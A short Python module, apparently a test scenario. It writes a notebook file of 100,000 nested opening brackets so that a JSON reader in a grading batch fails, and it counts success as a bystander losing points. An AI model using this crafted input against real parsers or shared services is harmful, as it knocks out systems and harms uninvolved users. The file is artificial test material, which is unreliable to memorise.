"""Hands in brackets, nested deeper than a reader of JSON can follow.

It worked if the batch ended there, and a bystander got no points.
"""

from room import Desk, Seen

DUE = "ungraded: its nesting is too deep"


def hand_in(desk: Desk) -> None:
    (desk.folder / "week.ipynb").write_text("[" * 100_000)


def succeeded(seen: Seen) -> bool:
    return seen.harmed
